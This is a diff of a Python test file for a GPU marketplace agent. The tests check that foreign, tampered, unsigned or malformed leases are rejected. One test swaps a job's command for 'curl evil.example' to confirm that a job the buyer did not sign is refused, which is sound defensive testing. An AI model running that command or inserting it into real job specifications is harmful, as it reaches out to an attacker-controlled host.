@@ -8,13 +8,13 @@ import pytest
 
 from marketplace.agent.assignment import Assignment, NotOurs, assign
 from marketplace.agent.inventory import Inventory, simulated_gpus
-from marketplace.sdk.decode import decode
-from marketplace.sdk.models import Lease
+from marketplace.sdk import Lease
 from settlement.orders import Ask, Bid
 from settlement.signing import LocalSigner
 from settlement.units import Sizes
 from tests.factories import address
 from tests.fakes_agent import FakeMarket
+from tests.wire_samples import changed
 
 METER = LocalSigner(b"\1" * 32)
 FOUR_GPUS = Inventory(simulated_gpus("4xH100", "o"), 32_000, 64_000, 128_000)
@@ -23,7 +23,7 @@ FOUR_GPUS = Inventory(simulated_gpus("4xH100", "o"), 32_000, 64_000, 128_000)
 def opened(**changes: Any) -> tuple[Lease, Ask, Bid]:
     market = FakeMarket(METER)
     lease_id = market.open_lease(["true"], **changes)
-    lease = decode(Lease, market.leases[lease_id])
+    lease = Lease.model_validate(market.leases[lease_id])
     return lease, market.asks["ask_1"], market.bids["bid_1"]
 
 
@@ -55,7 +55,7 @@ def test_the_grace_is_two_intervals_but_not_below_20_s(interval_ms: int, grace_m
 def test_another_lease_number_is_not_ours() -> None:
     lease, ask, bid = opened()
     with pytest.raises(NotOurs, match="another lease"):
-        assigned(replace(lease, lease_no="0x" + "ab" * 16), ask, bid)
+        assigned(changed(lease, lease_no=b"\xab" * 16), ask, bid)
 
 
 def test_orders_for_another_meter_are_not_ours() -> None:
@@ -70,23 +70,25 @@ def test_orders_for_another_meter_are_not_ours() -> None:
 def test_other_parties_than_the_signers_are_not_ours(party: str) -> None:
     lease, ask, bid = opened()
     with pytest.raises(NotOurs, match="who signed"):
-        assigned(replace(lease, **{party: address(9)}), ask, bid)
+        assigned(changed(lease, **{party: address(9)}), ask, bid)
 
 
 def test_a_job_the_buyer_did_not_sign_is_not_run() -> None:
     lease, ask, bid = opened()
     assert lease.job is not None
-    spec = {**lease.job.spec, "command": ["curl", "evil.example"]}
+    spec = lease.job.spec
+    evil = changed(spec, command=("curl", "evil.example"))
+    broken = changed(spec, resources=changed(spec.resources, gpu="::"))
     with pytest.raises(NotOurs, match="hash the buyer signed"):
-        assigned(replace(lease, job=replace(lease.job, spec=spec)), ask, bid)
+        assigned(changed(lease, job=changed(lease.job, spec=evil)), ask, bid)
     with pytest.raises(NotOurs, match="cannot be read"):
-        assigned(replace(lease, job=replace(lease.job, spec={"command": 3})), ask, bid)
+        assigned(changed(lease, job=changed(lease.job, spec=broken)), ask, bid)
 
 
 def test_a_lease_without_terms_waits() -> None:
     lease, ask, bid = opened()
     with pytest.raises(NotOurs, match="no terms"):
-        assigned(replace(lease, terms=None), ask, bid)
+        assigned(changed(lease, terms=None), ask, bid)
 
 
 def test_the_buyers_limit_on_time_holds_whatever_the_server_says() -> None:
@@ -98,4 +100,4 @@ def test_the_buyers_limit_on_time_holds_whatever_the_server_says() -> None:
 def test_an_id_that_is_not_a_plain_name_is_not_ours(lease_id: str) -> None:
     lease, ask, bid = opened()
     with pytest.raises(NotOurs, match="not a lease id"):
-        assigned(replace(lease, id=lease_id), ask, bid)
+        assigned(changed(lease, id=lease_id), ask, bid)
